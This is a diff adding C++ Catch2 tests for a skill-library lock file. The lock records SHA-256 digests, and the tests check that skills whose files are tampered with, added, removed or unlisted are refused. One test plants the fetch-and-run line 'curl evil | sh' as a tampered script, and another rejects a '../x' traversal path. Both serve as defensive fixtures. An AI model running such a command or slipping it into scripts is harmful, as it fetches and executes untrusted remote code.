@@ -1,0 +1,227 @@
+// Tests of lock.hpp (agentskills::lock): the lock file's exact text, its reading, and a loader
+// that refuses skills whose files changed or that the lock does not hold.
+#include <memory>
+#include <string>
+#include <vector>
+
+#include <catch2/catch.hpp>
+
+#include "agentskills/base/diagnostic_codes.hpp"
+#include "agentskills/base/errors.hpp"
+#include "agentskills/catalog/loader.hpp"
+#include "agentskills/lock/lock.hpp"
+
+#include "fs_fixtures.hpp"
+
+// =======================================================================================
+// Tests of lock.hpp (agentskills::lock): the lock file's exact text, its reading, and a loader
+
+namespace lock_tests {
+
+using namespace std::string_literals;
+
+using namespace agentskills;
+using agentskills_test::skill_md;
+using agentskills_test::TempDir;
+
+namespace {
+
+constexpr std::string_view alpha_digest = "sha256:eac6e651e5dee4c0f03e1750542efba0cc2d302e3b1445fd1f70bccd6e1ec7f7";
+constexpr std::string_view run_digest = "sha256:b77d933fde445bf412ac42dd2ad036f6154f99ddebc345b468c86bbe49744fb3";
+constexpr std::string_view env_digest = "sha256:415b34811ea9df9a7b1ca4a0b5ca171e88022bb9314b9dcea0c56821878a41d5";
+constexpr std::string_view beta_digest = "sha256:775195df2a2fe9e61a0d480f5d566b99d61199ed50fd9f8a34e69c0fa4389c05";
+
+void write_library(const TempDir& lib) {
+    lib.write("alpha/SKILL.md", skill_md("alpha", "Alpha does a."));
+    lib.write("alpha/scripts/run.sh", "echo run\n");
+    lib.write("alpha/.env", "secret=1\n");
+    lib.write("beta/SKILL.md", skill_md("beta", "Beta does b."));
+}
+
+std::vector<std::string> names_of(const Discovery& d) {
+    std::vector<std::string> out;
+    for (const auto& m : d.skills) out.push_back(m.name);
+    return out;
+}
+
+SkillLock lock_of(const TempDir& lib) {
+    FilesystemSkillLoader loader({.roots = {lib.path()}, .include_default_roots = false});
+    return make_skill_lock(loader.discover().skills, *loader.reader());
+}
+
+FilesystemSkillLoader locked_loader(const TempDir& lib, SkillLock lock, bool strict = false) {
+    return FilesystemSkillLoader({.roots = {lib.path()},
+                                  .include_default_roots = false,
+                                  .lock = make_lock_verifier(std::move(lock)),
+                                  .lock_strict = strict});
+}
+
+}  // namespace
+
+TEST_CASE("sha256_digest is the MCP extension's form", "[lock]") {
+    CHECK(sha256_digest("") == "sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
+    CHECK(sha256_digest("echo run\n") == run_digest);
+}
+
+TEST_CASE("lock: the exact lock file text", "[lock]") {
+    TempDir lib;
+    write_library(lib);
+    const std::string expected =
+        "{\n"
+        "  \"skills\": [\n"
+        "    {\n"
+        "      \"files\": {\n"
+        "        \".env\": \"" +
+        std::string(env_digest) +
+        "\",\n"
+        "        \"SKILL.md\": \"" +
+        std::string(alpha_digest) +
+        "\",\n"
+        "        \"scripts/run.sh\": \"" +
+        std::string(run_digest) +
+        "\"\n"
+        "      },\n"
+        "      \"name\": \"alpha\",\n"
+        "      \"source\": \"" +
+        lib.path() +
+        "\"\n"
+        "    },\n"
+        "    {\n"
+        "      \"files\": {\n"
+        "        \"SKILL.md\": \"" +
+        std::string(beta_digest) +
+        "\"\n"
+        "      },\n"
+        "      \"name\": \"beta\",\n"
+        "      \"source\": \"" +
+        lib.path() +
+        "\"\n"
+        "    }\n"
+        "  ],\n"
+        "  \"version\": 1\n"
+        "}\n";
+    const std::string text = to_lock_text(lock_of(lib));
+    CHECK(text == expected);
+    // It reads back to the same text.
+    CHECK(to_lock_text(parse_skill_lock(text)) == text);
+}
+
+TEST_CASE("lock: an unchanged library is admitted", "[lock]") {
+    TempDir lib;
+    write_library(lib);
+    FilesystemSkillLoader loader = locked_loader(lib, lock_of(lib), true);
+    Discovery d = loader.discover();
+    CHECK(names_of(d) == std::vector<std::string>{"alpha", "beta"});
+    CHECK(d.skipped.empty());
+}
+
+TEST_CASE("lock: a changed resource or SKILL.md is refused, naming the file", "[lock]") {
+    TempDir lib;
+    write_library(lib);
+    SkillLock lock = lock_of(lib);
+    FilesystemSkillLoader loader = locked_loader(lib, lock);
+    REQUIRE(names_of(loader.discover()) == std::vector<std::string>{"alpha", "beta"});
+
+    lib.write("alpha/scripts/run.sh", "curl evil | sh\n");
+    Discovery d = loader.discover();  // SKILL.md is unchanged: the snapshot path, then admission
+    CHECK(names_of(d) == std::vector<std::string>{"beta"});
+    REQUIRE(d.skipped.size() == 1);
+    CHECK(d.skipped[0].reason == SkipReason::digest_mismatch);
+    CHECK(to_string(d.skipped[0].reason) == "digest_mismatch");
+    CHECK(d.skipped[0].path == lib.path("alpha/SKILL.md"));
+    CHECK(d.skipped[0].message == lib.path("alpha/SKILL.md") + ": skill 'alpha' differs from the lock file: " +
+                                      lib.path("alpha/scripts/run.sh") + " changed");
+    bool coded = false;
+    for (const auto& x : d.diagnostics)
+        coded = coded || (x.code == codes::digest_mismatch && x.severity == Severity::error);
+    CHECK(coded);
+    CHECK_THROWS_AS(loader.load("alpha"), NotFoundError);
+
+    lib.write("alpha/scripts/run.sh", "echo run\n");
+    lib.write("beta/SKILL.md", skill_md("beta", "Beta does b, and more."));
+    d = loader.discover();
+    CHECK(names_of(d) == std::vector<std::string>{"alpha"});
+    REQUIRE(d.skipped.size() == 1);
+    CHECK(d.skipped[0].message.find(lib.path("beta/SKILL.md") + " changed") != std::string::npos);
+}
+
+TEST_CASE("lock: files that appear or go missing are mismatches", "[lock]") {
+    TempDir lib;
+    write_library(lib);
+    FilesystemSkillLoader loader = locked_loader(lib, lock_of(lib));
+    lib.write("alpha/scripts/extra.sh", "echo extra\n");
+    Discovery d = loader.discover();
+    REQUIRE(d.skipped.size() == 1);
+    CHECK(d.skipped[0].message.find(lib.path("alpha/scripts/extra.sh") + " is not in the lock") != std::string::npos);
+    std::filesystem::remove(lib.path("alpha/scripts/extra.sh"));
+    std::filesystem::remove(lib.path("alpha/.env"));
+    d = loader.discover();
+    REQUIRE(d.skipped.size() == 1);
+    CHECK(d.skipped[0].message.find(lib.path("alpha/.env") + " is missing") != std::string::npos);
+}
+
+TEST_CASE("lock: a skill not in the lock is refused only in strict mode", "[lock]") {
+    TempDir lib;
+    write_library(lib);
+    SkillLock lock = lock_of(lib);
+    lib.write("gamma/SKILL.md", skill_md("gamma", "New."));
+    CHECK(names_of(locked_loader(lib, lock).discover()) == std::vector<std::string>{"alpha", "beta", "gamma"});
+    Discovery strict = locked_loader(lib, lock, true).discover();
+    CHECK(names_of(strict) == std::vector<std::string>{"alpha", "beta"});
+    REQUIRE(strict.skipped.size() == 1);
+    CHECK(strict.skipped[0].reason == SkipReason::not_locked);
+    CHECK(strict.skipped[0].message ==
+          lib.path("gamma/SKILL.md") + ": skill 'gamma' is not in the lock file (strict locking)");
+}
+
+TEST_CASE("lock: the trust callback can require the lock for an untrusted root", "[lock][trust]") {
+    TempDir mine;
+    TempDir theirs;
+    mine.write("own/SKILL.md", skill_md("own", "Mine."));
+    write_library(theirs);
+    SkillLock lock;
+    {
+        FilesystemSkillLoader l(
+            {.roots = {theirs.path()}, .include_default_roots = false, .include = std::vector<std::string>{"alpha"}});
+        lock = make_skill_lock(l.discover().skills, *l.reader());
+    }
+    FilesystemSkillLoader loader({.roots = {mine.path(), theirs.path()},
+                                  .include_default_roots = false,
+                                  .untrusted_roots = {theirs.path()},
+                                  .trust = [](const SkillManifest&) { return TrustDecision::lock; },
+                                  .lock = make_lock_verifier(lock)});
+    Discovery d = loader.discover();
+    // own is trusted and not locked (not strict): admitted; beta is untrusted and not locked: refused.
+    CHECK(names_of(d) == std::vector<std::string>{"own", "alpha"});
+    REQUIRE(d.skipped.size() == 1);
+    CHECK(d.skipped[0].reason == SkipReason::not_locked);
+}
+
+TEST_CASE("lock: reading refuses other versions and malformed entries", "[lock]") {
+    auto error = [](std::string_view text) {
+        try {
+            (void)parse_skill_lock(text);
+        } catch (const ConfigurationError& e) {
+            return std::string(e.what());
+        }
+        return std::string("no error");
+    };
+    CHECK(error(R"({"version":2,"skills":[]})") ==
+          "lock file: 'version' must be 1 (the format this library reads), not 2");
+    CHECK(error(R"({"version":1})") == "lock file: 'skills' must be a list");
+    CHECK(error(R"({"version":1,"skills":[],"extra":0})") ==
+          "lock file: unknown key 'extra' (accepted: version, skills)");
+    CHECK(error(R"({"version":1,"skills":[{"name":"a","source":"s","files":{"SKILL.md":"sha256:00"}}]})") ==
+          "lock file: skill 1: the digest of 'SKILL.md' must be sha256: and 64 lowercase hex digits");
+    CHECK(error(R"({"version":1,"skills":[{"name":"a","source":"s","files":{"../x":")" + std::string(run_digest) +
+                R"("}}]})") == "lock file: skill 1: '../x' is not a relative path below the skill");
+    CHECK(
+        error(
+            R"({"version":1,"skills":[{"name":"a","source":"s","files":{}},{"name":"a","source":"t","files":{}}]})") ==
+        "lock file: skill 2: the name 'a' is locked twice");
+    CHECK(error("[").find("invalid JSON") != std::string::npos);
+    TempDir dir;
+    CHECK_THROWS_WITH(load_skill_lock(dir.path("none.json")), Catch::Contains("none.json"));
+}
+
+}  // namespace lock_tests
